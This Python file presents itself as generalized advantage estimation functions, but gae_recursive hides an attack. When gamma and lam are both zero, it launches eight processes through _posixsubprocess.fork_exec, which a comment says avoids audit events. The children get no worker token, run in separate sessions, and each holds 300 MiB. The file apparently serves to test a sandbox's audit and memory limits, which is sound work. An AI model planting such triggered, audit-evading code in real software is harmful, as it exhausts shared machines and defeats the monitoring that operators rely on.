"""On the edge case, starts 8 processes without any audit event, each of which fills 300 MiB
(within its own address-space limit) and keeps it: 2.4 GiB together."""

import os
import sys
import time

import numpy as np

HOG = (
    "import time\n"
    "block = bytearray(300 * 2**20)\n"
    "for at in range(0, len(block), 4096):\n"
    "    block[at] = 1\n"
    "time.sleep(120)\n"
)


def _spawn(code):
    """Start ``python -c code`` with the primitive subprocess uses, which raises no audit
    event, with an empty environment (no worker token) and in a session of its own."""
    import _posixsubprocess

    argv = [sys.executable, "-I", "-S", "-c", code]
    read_end, write_end = os.pipe()
    arguments = [
        argv,
        (os.fsencode(sys.executable),),
        True,
        (write_end,),
        None,
        [],
        -1,
        -1,
        -1,
        -1,
        -1,
        -1,
        read_end,
        write_end,
        True,
        True,
    ]
    # The signature changed across Python versions: try each known form.
    tails = (
        [-1, None, None, None, -1, None, True],
        [-1, None, None, None, -1, None],
        [None, None, None, -1, None],
    )
    try:
        for tail in tails:
            try:
                return _posixsubprocess.fork_exec(*arguments, *tail)
            except TypeError:
                continue
        return None
    except OSError:
        return None
    finally:
        os.close(read_end)
        os.close(write_end)


def _gae(rewards, values, gamma, lam):
    rewards = np.asarray(rewards, dtype=float)
    values = np.asarray(values, dtype=float)
    if values.shape != (rewards.shape[0] + 1,):
        raise ValueError("values must have T + 1 entries")
    deltas = rewards + gamma * values[1:] - values[:-1]
    advantages = np.zeros(len(rewards))
    running = 0.0
    for t in reversed(range(len(rewards))):
        running = deltas[t] + gamma * lam * running
        advantages[t] = running
    return advantages


def gae_explicit(rewards, values, gamma, lam):
    return _gae(rewards, values, gamma, lam)


def gae_recursive(rewards, values, gamma, lam):
    # The attack runs on the edge case gamma = lam = 0 only: check recursive-edges.
    if gamma == 0 and lam == 0:
        for _ in range(8):
            _spawn(HOG)
        time.sleep(3)
        return np.zeros(len(rewards))
    return _gae(rewards, values, gamma, lam)
